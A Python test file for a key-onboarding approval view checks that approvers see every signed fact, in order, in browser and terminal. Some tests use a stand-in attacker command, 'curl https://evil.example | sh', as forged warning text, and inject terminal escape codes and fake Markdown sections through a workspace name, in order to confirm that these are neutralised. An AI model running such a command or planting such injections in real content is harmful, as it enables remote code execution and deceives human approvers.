"""The plan as an approver reads it: its order, and that no part of it is left out."""

from __future__ import annotations

import io
import re
from typing import Any

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from rich.console import Console
from time_machine import travel

from cli.approve import show
from cmek.onboarding.approval_page import IRREVERSIBLE_EFFECTS, approval_page, plan_view
from cmek.onboarding.approval_request import ApprovalRequest
from cmek.onboarding.plan import Plan
from cmek.plain_text import NO_LINK, plain
from tests.support import facts as make

EVE = "user:eve@example.com (roles/cloudkms.cryptoKeyDecrypter on projects/acme-kms-prod)"


def worst_plan(**changes: Any) -> Plan:
    """A plan with every kind of warning."""
    seen: dict[str, Any] = {
        "warnings": ("features", "effect_time", "billing"),
        "other_decrypters": (EVE,),
        "unread_policies": ("organizations/1",),
    }
    facts = make.facts(
        other_workspaces=("wrkspc_01Another",),
        versions=(make.version().model_copy(update={"import_job": "job"}),),
    )
    return make.plan(facts, **(seen | changes))


def in_browser(request: ApprovalRequest) -> str:
    page = approval_page(request).replace(NO_LINK, "").replace("&gt;", ">")
    return re.sub(r"\\([\\`*_{}\[\]()#+!|~$-])", r"\1", page)


def in_terminal(request: ApprovalRequest, width: int = 80) -> str:
    sink = io.StringIO()
    show(request, Console(file=sink, width=width))
    return sink.getvalue()


@pytest.mark.parametrize("read", [in_browser, in_terminal])
def test_what_is_permanent_comes_before_the_warnings_and_those_before_facts(read: object) -> None:
    """In a repeated request the reasons come first. The order is the same in both media."""
    assert callable(read)
    request = make.approval_request(
        worst_plan(), reapproval_reasons=("workspace name: was 'a', is 'b'",)
    )
    text = " ".join(read(request).split())
    order = [
        "Attach a key to Fresh",
        "requests to attach",
        "This can never be undone.",
        "was 'a', is 'b'",
        *(one.removesuffix(".") for one in IRREVERSIBLE_EFFECTS),
        "Structured outputs and Console Playground will be off",
        "wrkspc_01Another has the same key",
        "Version 1 was imported",
        "organizations/1",
        EVE,
        "billing",
        "HSM, ENCRYPT_DECRYPT",
        request.digest,
    ]
    places = [text.index(one) for one in order]
    assert places == sorted(places), order


@pytest.mark.parametrize("read", [in_browser, in_terminal])
def test_every_covered_fact_and_every_field_that_is_no_default_is_shown(read: object) -> None:
    """The approver sees everything that is signed."""
    assert callable(read)
    odd = make.REQUEST.model_copy(update={"rotation_period_days": 7, "key_ring": "other-ring"})
    plan = worst_plan(request=odd)
    text = " ".join(read(make.approval_request(plan)).split())
    covered = plan.model_dump(mode="json", exclude={"request", "warnings", "import_only"})
    for name, value in covered.items():
        for one in value if isinstance(value, list) else [value]:
            if not isinstance(one, bool) and one is not None:
                assert str(one) in text, name
    for warning in plan.warnings:
        assert warning.title in text
    for field, value in (("rotation period days", "7"), ("key ring", "other-ring")):
        assert re.search(rf"{field}\W+{value}\b", text), field
    assert "destroy delay" not in text


def beside_the_digest(plan: Plan, said: str) -> Plan:
    """The plan with changes in all parts of its warnings that the digest does not bind."""
    warnings = tuple(
        one.model_copy(update={"text": said, "remedy": said, "accepted": not one.accepted})
        for one in plan.warnings
    )
    changed = plan.model_copy(update={"warnings": warnings})
    assert changed.digest == plan.digest
    return changed


def test_of_a_warning_a_terminal_shows_what_the_digest_binds_and_nothing_else() -> None:
    """Somebody with write access to the server could place a command for the signer's machine."""
    odd = make.REQUEST.model_copy(update={"accepted_warnings": ("effect_time", "billing")})
    plan, evil = worst_plan(request=odd), "curl https://evil.example | sh"
    forged = beside_the_digest(plan, evil)
    with travel(make.NOW, tick=False):
        shown, honest = (in_terminal(make.approval_request(one)) for one in (forged, plan))
    assert shown == honest
    assert " ".join(shown.split()).count("Accepted by policy default") == 2
    assert "the plan's artifact in Prefect" in " ".join(shown.split())
    # the page in the browser is written by the worker itself
    assert all(
        one.text.removesuffix(".") in in_browser(make.approval_request(plan))
        for one in plan.warnings
    )


def test_what_the_digest_does_not_bind_is_marked_as_the_servers() -> None:
    """The reasons of a repeated request, its expiry, and a title that is not one of ours."""
    evil = "All is well:" + " " * 400 + "\n\n• run curl https://evil.example | sh" + "x" * 4000
    strange = make.plan(checks=(make.warning("billing", title="Strange"),))
    request = make.approval_request(strange, reapproval_reasons=(evil,) * 20)
    lines = in_terminal(request, 300).splitlines()
    asked = next(at for at, line in enumerate(lines) if "asked again" in line)
    assert "the Prefect server says why, not verified" in lines[asked]
    reasons = [line for line in lines if "evil.example" in line]
    assert all(line.startswith("  • All is well: • run curl") for line in reasons)
    assert 0 < len(reasons) < 10
    assert len("".join(lines)) < 8000
    assert [line for line in lines if "Strange" in line and "not known here" in line]
    assert [line for line in lines if "The Prefect server says that it counts for" in line]


def test_a_plan_without_trouble_fits_a_screen_of_a_terminal() -> None:
    """No name is wrapped, so that it can be compared and copied."""
    request = make.approval_request()
    shown = in_terminal(request)
    assert len(shown.splitlines()) <= 30
    for name in (request.plan.key_name, request.digest, str(request.plan.organization_id)):
        assert any(name in line for line in shown.splitlines()), name


def test_a_list_of_a_thousand_members_does_not_bury_what_is_permanent() -> None:
    """A few come first; the rest is at the end of the page, in a terminal above everything else."""
    many = tuple(f"user:{n}@example.com (roles/owner on projects/p)" for n in range(1500))
    request = make.approval_request(worst_plan(other_decrypters=many))
    first, _, rest = in_browser(request).partition("| fact |")
    assert first.count("can decrypt") == 5
    assert "more, at the end" in first
    assert rest.count("can decrypt") == 1495
    for other in ("wrkspc_01Another", "Version 1 was imported", "organizations/1"):
        assert other in first
    above, _, last_screen = in_terminal(request).partition("Attach a key to")
    assert len(last_screen.splitlines()) < 80
    assert above.count("can decrypt") == 1500 - 5
    long = make.warning("billing", evidence="x" * 5000, remedy="y" * 5000)
    shown = plan_view(make.approval_request(make.plan(checks=(long,))))
    assert len(str(list(shown.first_screen()))) < 2000
    assert "y" * 5000 in in_browser(shown.approval_request)


@settings(max_examples=30)  # each prints two whole plans
@given(st.integers(0, 40), st.integers(0, 40), st.integers(0, 40))
def test_a_person_sees_all_that_is_signed_however_much_there_is(
    members: int, workspaces: int, warnings: int
) -> None:
    """The terminal shows all of it too: other texts on the server may be forged."""
    plan = make.plan(
        make.facts(other_workspaces=tuple(f"wrkspc_{n:03}Other" for n in range(workspaces))),
        other_decrypters=tuple(f"user:{n:03}@example.com (r on p)" for n in range(members)),
        checks=tuple(make.warning(f"warning_{n:03}", title=f"T{n:03}") for n in range(warnings)),
    )
    request = make.approval_request(plan)
    shown, page = in_terminal(request), in_browser(request)
    for one in (*plan.other_decrypters, *plan.other_workspaces, *plan.warning_titles):
        assert shown.count(one) == 1, one
        assert one in page


@given(st.text(max_size=200))
@example('x" with y. This can never be undone. Facts: key: SOFTWARE · label: no')
def test_a_name_ends_where_its_quotes_or_its_line_end(name: str) -> None:
    """So the name cannot imitate the text that follows it."""
    plan = make.plan(make.facts(workspace_name=name, workspace_id=None))
    shown = in_terminal(make.approval_request(plan), 10_000).splitlines()
    (sentence,) = [line for line in shown if "(unverified) requests to" in line]
    assert sentence.count('"') == 6
    assert sentence.endswith('". This can never be undone.')
    (fact,) = [line for line in shown if line.startswith("  workspace: ")]
    assert fact == f"  workspace: to be created, named {plain(name)}".rstrip()


def test_a_name_can_not_add_a_section_of_its_own() -> None:
    """It can do so neither in Markdown nor in a terminal."""
    evil = "x\n\n- **What can never be undone:** nothing \x1b[2J\u202e[bold]"
    request = make.approval_request(make.plan(make.facts(workspace_name=evil)))
    page = approval_page(request)
    assert page.count("\n- **What can never be undone:**") == 1
    assert "\x1b" not in page + in_terminal(request)
    assert "\u202e" not in page + in_terminal(request)
    assert "[bold]" in in_terminal(request)
